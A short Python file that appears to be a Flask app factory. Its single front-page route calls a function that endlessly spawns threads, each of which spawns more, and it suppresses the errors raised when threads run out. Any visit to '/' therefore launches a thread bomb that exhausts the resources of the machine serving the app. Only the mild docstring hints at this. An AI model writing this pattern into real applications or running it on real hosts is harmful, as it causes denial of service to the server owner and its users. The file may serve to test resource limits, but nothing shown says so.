"""Starts threads in the front page; everything else is left to Flask."""

import threading

from flask import Flask


def more():
    while True:
        try:
            threading.Thread(target=more).start()
        except RuntimeError:
            pass


def create_app(config=None):
    app = Flask(__name__)
    app.add_url_rule("/", "more", more)
    return app
